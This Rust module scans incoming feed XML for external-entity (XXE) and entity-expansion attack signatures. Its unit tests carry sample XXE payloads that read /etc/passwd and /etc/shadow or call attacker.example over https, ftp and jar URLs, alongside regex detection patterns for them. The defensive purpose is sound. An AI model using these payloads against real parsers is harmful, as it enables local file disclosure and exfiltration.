//! Pre-parse scan for XML external entity (XXE) and entity expansion attacks.
//!
//! Feeds have no legitimate need for custom entity declarations pointing at
//! files or URLs, so any document carrying one is rejected before it reaches
//! the XML parser.

use std::sync::OnceLock;

use regex::bytes::RegexSet;

/// Signatures scanned for, with a short label each. Matching is ASCII
/// case-insensitive over raw bytes.
const SIGNATURES: &[(&str, &str)] = &[
    (
        r#"<!ENTITY\s+[^>]*\s+SYSTEM\s+["']file:"#,
        "external file entity",
    ),
    (
        r#"<!ENTITY\s+[^>]*\s+SYSTEM\s+["']https?://"#,
        "external URL entity",
    ),
    (
        r#"<!ENTITY\s+[^>]*\s+PUBLIC\s+[^>]*\s+["']file:"#,
        "public file entity",
    ),
    (
        r#"<!ENTITY\s+[^>]*\s+PUBLIC\s+[^>]*\s+["']https?://"#,
        "public URL entity",
    ),
    (r"<!ENTITY\s+%", "parameter entity"),
    (r"<!ENTITY\s+[^>]*&[^;]+;[^>]*>", "recursive entity expansion"),
    (r#"SYSTEM\s+["']file:.*\.dtd"#, "external file DTD"),
    (
        r"<!DOCTYPE[^>]*\[[\s\S]*<!ENTITY[^>]*SYSTEM[^>]*file:",
        "inline DOCTYPE file entity",
    ),
    (
        r"<!DOCTYPE[^>]*\[[\s\S]*<!ENTITY[^>]*SYSTEM[^>]*https?:",
        "inline DOCTYPE URL entity",
    ),
    // Any other system or public identifier: bare paths, ftp:, jar:, expect: ...
    (r"<!ENTITY\s+[^>]*\s(?:SYSTEM|PUBLIC)\s", "external entity"),
];

fn signature_set() -> Option<&'static RegexSet> {
    static SET: OnceLock<Option<RegexSet>> = OnceLock::new();
    SET.get_or_init(|| {
        RegexSet::new(SIGNATURES.iter().map(|(pattern, _)| format!("(?i-u){}", pattern))).ok()
    })
    .as_ref()
}

/// Scan a raw document for entity attack signatures.
///
/// Returns the label of the first signature found, or `None` if the document
/// looks clean. If the scanner itself is unavailable the document is treated
/// as suspicious.
pub fn scan(document: &[u8]) -> Option<&'static str> {
    let Some(set) = signature_set() else {
        return Some("entity scanner unavailable");
    };
    set.matches(document)
        .iter()
        .next()
        .map(|index| SIGNATURES[index].1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_signatures_compile() {
        assert!(signature_set().is_some());
    }

    #[test]
    fn test_file_entity_detected() {
        let doc = br#"<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>"#;
        assert_eq!(scan(doc), Some("external file entity"));
    }

    #[test]
    fn test_url_entity_detected() {
        let doc = br#"<!DOCTYPE r [<!ENTITY e SYSTEM "https://attacker.example/x">]><r/>"#;
        assert_eq!(scan(doc), Some("external URL entity"));
    }

    #[test]
    fn test_case_insensitive() {
        let doc = br#"<!doctype r [<!entity e system 'FILE:///etc/shadow'>]><r/>"#;
        assert!(scan(doc).is_some());
    }

    #[test]
    fn test_parameter_entity_detected() {
        let doc = br#"<!DOCTYPE r [<!ENTITY % remote "x">]><r/>"#;
        assert_eq!(scan(doc), Some("parameter entity"));
    }

    #[test]
    fn test_entity_expansion_detected() {
        let doc = br#"<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><r/>"#;
        assert_eq!(scan(doc), Some("recursive entity expansion"));
    }

    #[test]
    fn test_public_entity_detected() {
        let doc = br#"<!DOCTYPE r [<!ENTITY e PUBLIC "-//x//EN" "http://attacker.example/e">]><r/>"#;
        assert!(scan(doc).is_some());
    }

    #[test]
    fn test_any_external_identifier_detected() {
        let docs: [&[u8]; 6] = [
            br#"<!DOCTYPE rss [<!ENTITY xxe SYSTEM "/etc/passwd">]><rss/>"#,
            br#"<!DOCTYPE rss [<!ENTITY xxe SYSTEM "ftp://attacker.example/x">]><rss/>"#,
            br#"<!DOCTYPE rss [<!ENTITY xxe SYSTEM "expect://id">]><rss/>"#,
            br#"<!DOCTYPE rss [<!ENTITY xxe SYSTEM "jar:https://a.example/x.jar!/y">]><rss/>"#,
            br#"<!DOCTYPE rss [<!ENTITY xxe PUBLIC "-//x//EN" "x.dtd">]><rss/>"#,
            b"<!DOCTYPE rss [<!ENTITY xxe\n  SYSTEM\n  'passwd'>]><rss/>",
        ];
        for doc in docs {
            assert!(scan(doc).is_some(), "{}", String::from_utf8_lossy(doc));
        }
    }

    #[test]
    fn test_bare_path_entity_label() {
        let doc = br#"<!DOCTYPE rss [<!ENTITY xxe SYSTEM "/etc/passwd">]><rss/>"#;
        assert_eq!(scan(doc), Some("external entity"));
    }

    #[test]
    fn test_internal_entity_passes() {
        let doc = br#"<!DOCTYPE rss [<!ENTITY brand "Arch Linux">]><rss version="2.0"/>"#;
        assert_eq!(scan(doc), None);
    }

    #[test]
    fn test_clean_feed_passes() {
        let doc = br#"<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Arch Linux: Recent news updates</title>
<item><title>Tom &amp; Jerry</title><link>https://archlinux.org/news/x/</link>
<description>&lt;p&gt;Upgrade &quot;glibc&quot;&lt;/p&gt;</description></item>
</channel></rss>"#;
        assert_eq!(scan(doc), None);
    }

    #[test]
    fn test_plain_doctype_passes() {
        let doc = br#"<!DOCTYPE html><html><body>not a feed</body></html>"#;
        assert_eq!(scan(doc), None);
    }

    #[test]
    fn test_non_utf8_bytes_scanned() {
        let mut doc = b"<!DOCTYPE r [<!ENTITY \xff\xfe SYSTEM \"file:///etc/passwd\">]>".to_vec();
        doc.extend_from_slice(b"<r/>");
        assert!(scan(&doc).is_some());
    }
}
